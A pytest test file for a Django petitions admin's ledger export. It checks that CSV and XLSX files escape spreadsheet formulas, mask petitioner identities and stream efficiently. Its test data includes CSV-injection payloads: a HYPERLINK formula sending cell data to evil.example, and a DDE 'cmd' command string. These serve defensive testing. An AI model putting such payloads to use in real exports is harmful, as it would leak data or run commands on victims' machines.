"""Exporting the ledger (台账导出, X.3): formulas escaped, identity masked, filters kept, streamed.

Every file is fetched through the admin URL the ledger's "下载" buttons use and opened the way a
user's spreadsheet would: the CSV with the csv module, the XLSX with openpyxl.
"""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from factories import (
    CategoryFactory,
    DepartmentFactory,
    a_category,
    detachment_user,
    direct_channel,
    make_case,
    step,
)
from wagtail.users.models import UserProfile

from petitions.admin.views import CaseIndexView
from petitions.cases.filing import Filing, PetitionerData, file_case
from petitions.models import Case, Petitioner
from petitions.transfer.exporting import SafeSpreadsheetExportMixin, spreadsheet_safe

pytestmark = pytest.mark.django_db

PHONE = "13812340000"
MASKED_PHONE = "138****0000"
#: Text a spreadsheet would run, as a petitioner could type it into the place of the problem.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1+1",
]
PLACE_COLUMN = 10  # list_export: …, 信访人, 电话, 问题发生地点, 来源工单号
RECEIVED_AT = timezone.make_aware(dt.datetime(2026, 10, 9, 9, 30))  # Asia/Shanghai


def _file(place: str, name: str = "张三") -> Case:
    return file_case(
        Filing(
            channel=direct_channel(),
            place=place,
            description="夜间异味扰民",
            received_at=RECEIVED_AT,
            petitioners=[PetitionerData(name=name, phone=PHONE)],
        )
    )


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_rows(client, query: str = "") -> list[list[str]]:
    response = client.get(f"/admin/cases/?export=csv{query}")
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"), newline="")))


def _xlsx(client, query: str = "") -> bytes:
    return _body(client.get(f"/admin/cases/?export=xlsx{query}"))


@pytest.fixture
def detachment(client):
    client.force_login(detachment_user())
    return client


@pytest.fixture
def hostile_cases():
    cases = {payload: _file(payload) for payload in PAYLOADS}
    named = _file("九龙坡区-石坪桥", name="=cmd|' /C calc'!A0")  # a name, masked to "=*…"
    plain = _file("-")  # a lone minus is still escaped: OWASP leaves no exception
    return cases, named, plain


def test_x_3_csv_export_escapes_formulas_and_masks_the_phone(detachment, hostile_cases):
    cases, named, plain = hostile_cases
    rows = _csv_rows(detachment)
    assert rows[0][0] == "编号" and rows[0][PLACE_COLUMN] == "问题发生地点"
    by_number = {row[0]: row for row in rows[1:]}
    for payload, case in cases.items():
        row = by_number[case.number]
        assert row[PLACE_COLUMN] == "'" + payload, row
        assert MASKED_PHONE in row
        assert row[1] == "2026-10-09 09:30:00"  # local time, a date value: not escaped
    row = by_number[named.number]
    assert row[PLACE_COLUMN] == "九龙坡区-石坪桥"  # a minus inside the text is harmless
    assert row[8] == "'=" + "*" * (len("=cmd|' /C calc'!A0") - 1)  # masked, then escaped
    assert by_number[plain.number][PLACE_COLUMN] == "'-"
    # No cell of the file starts with a formula character, whatever its column.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (row, cell)
    text = "\n".join(",".join(row) for row in rows)
    assert PHONE not in text and "张三" not in text and "张*" in text


def test_x_3_xlsx_export_writes_formulas_as_quoted_text_and_masks_the_phone(
    detachment, hostile_cases
):
    cases, named, _plain = hostile_cases
    data = _xlsx(detachment)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # not a single formula cell
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert len(rows) == len(cases) + 2
    for payload, case in cases.items():
        cell = rows[case.number][PLACE_COLUMN]
        # The text itself, unaltered (but for XML's line ends), as a string cell with Excel's
        # quote prefix.
        assert cell.data_type == "s", payload
        assert cell.value == payload.replace("\r", "\n"), (payload, cell.value)
        assert cell.quotePrefix, payload
        received = rows[case.number][1]
        assert received.is_date and received.value == dt.datetime(2026, 10, 9, 9, 30)
    name_cell = rows[named.number][8]
    assert name_cell.value.startswith("=*") and name_cell.data_type == "s"
    assert name_cell.quotePrefix
    plain_place = rows[named.number][PLACE_COLUMN]
    assert plain_place.value == "九龙坡区-石坪桥" and not plain_place.quotePrefix
    values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert values.count(MASKED_PHONE) == len(rows)
    assert not any(PHONE in v for v in values) and not any("张三" in v for v in values)


def test_x_3_spreadsheet_safe_escapes_only_text():
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("\t=1") == "'\t=1"
    assert spreadsheet_safe("\0=1") == "'\0=1"
    assert spreadsheet_safe("1-2") == "1-2"
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe(-2) == -2
    assert spreadsheet_safe(dt.date(2026, 10, 9)) == dt.date(2026, 10, 9)


def test_x_3_export_keeps_the_ledger_filters_and_search(detachment):
    user = detachment_user("zhidui2")
    received = make_case()
    registered = step(make_case(), "register", user, kind="pollution", categories=[a_category()])
    numbers = {row[0] for row in _csv_rows(detachment, "&state=registered")[1:]}
    assert numbers == {registered.number}
    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx(detachment, "&state=received"))).active
    assert {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)} == {received.number}
    searched = {row[0] for row in _csv_rows(detachment, f"&q={registered.number}")[1:]}
    assert searched == {registered.number}


def _clone_cases(template: Case, count: int) -> None:
    """Bulk copies of a filed case, with a petitioner and a category each."""
    start = Case.objects.count() + 1
    clones = []
    for i in range(count):
        clone = Case.objects.get(pk=template.pk)
        clone.pk = None
        clone.number = f"BULK-{start + i:06d}"
        clones.append(clone)
    created = Case.objects.bulk_create(clones)
    Petitioner.objects.bulk_create([Petitioner(case=c, name="李四", phone=PHONE) for c in created])
    through = Case.categories.through
    category = template.categories.first()
    through.objects.bulk_create([through(case_id=c.pk, category_id=category.pk) for c in created])


def _export_queries(client, export: str) -> tuple[int, int, bytes]:
    """(queries until the first bytes are out, queries in all, the file)."""
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(f"/admin/cases/?export={export}")
        assert response.status_code == 200
        content = iter(response.streaming_content)
        first = next(content)
        at_first = len(ctx.captured_queries)
        body = first + b"".join(content)
    return at_first, len(ctx.captured_queries), body


def test_x_3_export_streams_with_a_fixed_number_of_queries_per_chunk(detachment, monkeypatch):
    """Memory stays flat: rows are read in chunks, each with the same queries, and the CSV's
    first bytes leave before the rows are read, so no list of all rows is ever built."""
    monkeypatch.setattr(SafeSpreadsheetExportMixin, "export_chunk_size", 100)
    template = _file("九龙坡区测试路1号")
    template.categories.add(a_category())
    _clone_cases(template, 49)
    detachment.get("/admin/cases/?export=csv")  # warm per-process caches
    csv_first, csv_50, body = _export_queries(detachment, "csv")
    assert body.decode("utf-8-sig").count(MASKED_PHONE) == 50
    xlsx_50 = _export_queries(detachment, "xlsx")[1]
    _clone_cases(template, 450)  # 500 rows: five chunks instead of one

    response = detachment.get("/admin/cases/?export=csv")
    assert response.streaming
    csv_first_500, csv_500, body = _export_queries(detachment, "csv")
    xlsx_500 = _export_queries(detachment, "xlsx")[1]
    assert body.decode("utf-8-sig").count(MASKED_PHONE) == 500
    # The heading leaves before any row is read, at 50 rows as at 500.
    assert csv_first_500 == csv_first < csv_50
    # Four more chunks cost the same few queries each (the rows are read by one cursor; their
    # categories and petitioners are prefetched once per chunk), not a query per row: 450 more
    # rows would otherwise add at least 450 queries.
    per_chunk = (csv_500 - csv_50) / 4
    assert per_chunk == int(per_chunk) and 1 <= per_chunk <= 4, (csv_50, csv_500)
    assert xlsx_500 - xlsx_50 == csv_500 - csv_50


# --- the faster export writes the same file as before (issue 14) -----------------------------


def _varied_cases() -> list[Case]:
    """Cases with everything a ledger row can hold: several petitioners (one without a phone,
    one whose masked name starts a formula), categories out of their display order, formula-like
    text in every text column, a host department or none, a kind or none, a due date or none."""
    later = CategoryFactory(code="z-water", name="水", sort_order=2)
    first = CategoryFactory(code="a-noise", name="噪声", sort_order=1)
    formula_category = CategoryFactory(code="f", name="=SUM(A1)", sort_order=3)
    department = DepartmentFactory(code="d-formula", name="+大气科")
    cases = [
        file_case(
            Filing(
                channel=direct_channel(),
                place='=HYPERLINK("http://evil.example","点")',
                description="夜间异味扰民",
                received_at=RECEIVED_AT,
                kind="pollution",
                categories=[formula_category, later, first],
                source_ticket_number="@12345-1",
                petitioners=[
                    PetitionerData(name="欧阳娜娜", phone=PHONE),
                    PetitionerData(name="=cmd|' /C calc'!A0", phone=""),
                    PetitionerData(name="", phone="12"),
                    PetitionerData(name="李四", phone="023-6888"),
                ],
            )
        ),
        file_case(
            Filing(
                channel=direct_channel(),
                place='九龙坡区-石坪桥,"引号"\n换行',
                description="噪声",
                received_at=RECEIVED_AT - dt.timedelta(days=400, hours=20),
                petitioners=[],
            )
        ),
        _file("\t=1"),
        _file("-"),
        make_case(),
    ]
    Case.objects.filter(pk=cases[0].pk).update(host_department=department)
    Case.objects.filter(pk=cases[1].pk).update(next_due_on=None, state="closed")
    return cases


def _as_before(monkeypatch) -> None:
    """The export as it was: model instances with their prefetches, every cell through
    Wagtail's `preprocess_field_value`."""
    monkeypatch.setattr(CaseIndexView, "export_value_rows", lambda self, queryset: None)
    monkeypatch.setattr(
        CaseIndexView,
        "_csv_cells",
        lambda self, fields, values: [
            self.preprocess_field_value(f, v, self.FORMAT_CSV)
            for f, v in zip(fields, values, strict=True)
        ],
    )


@pytest.mark.parametrize("query", ["", "&state=closed", "english"])
def test_x_3_faster_csv_export_writes_the_same_bytes_as_before(detachment, monkeypatch, query):
    cases = _varied_cases()
    if query == "english":
        profile = UserProfile.get_for_user(get_user_model().objects.get(username="zhidui"))
        profile.preferred_language = "en"
        profile.save()
        query = ""
    fast = _body(detachment.get(f"/admin/cases/?export=csv{query}"))
    with monkeypatch.context() as patch:
        _as_before(patch)
        before = _body(detachment.get(f"/admin/cases/?export=csv{query}"))
    assert fast == before
    rows = list(csv.reader(io.StringIO(fast.decode("utf-8-sig"), newline="")))
    assert len(rows) == (2 if query else len(cases) + 1)
    if query:
        return
    # What the comparison covers: masked identities, escaped formulas, joined categories.
    row = next(row for row in rows if row[0] == cases[0].number)
    assert row[4] == "噪声、水、=SUM(A1)"  # in the categories' order; the cell starts with 噪
    assert row[5] == "'+大气科"
    assert row[8] == "欧***、=" + "*" * (len("=cmd|' /C calc'!A0") - 1) + "、、李*"
    assert row[9] == "138****0000、**、023*6888"
    assert row[10].startswith("'=HYPERLINK") and row[11] == "'@12345-1"
    empty = next(row for row in rows if row[0] == cases[1].number)
    assert empty[5] == empty[7] == empty[8] == empty[9] == ""
    assert empty[10] == '九龙坡区-石坪桥,"引号"\n换行'


def test_x_3_faster_xlsx_export_writes_the_same_cells_as_before(detachment, monkeypatch):
    _varied_cases()
    fast = openpyxl.load_workbook(io.BytesIO(_xlsx(detachment))).active
    with monkeypatch.context() as patch:
        _as_before(patch)
        before = openpyxl.load_workbook(io.BytesIO(_xlsx(detachment))).active

    def cells(sheet):
        return [
            [(c.value, c.data_type, c.quotePrefix, c.number_format) for c in row]
            for row in sheet.iter_rows()
        ]

    assert cells(fast) == cells(before)
    assert len(cells(fast)) == 6
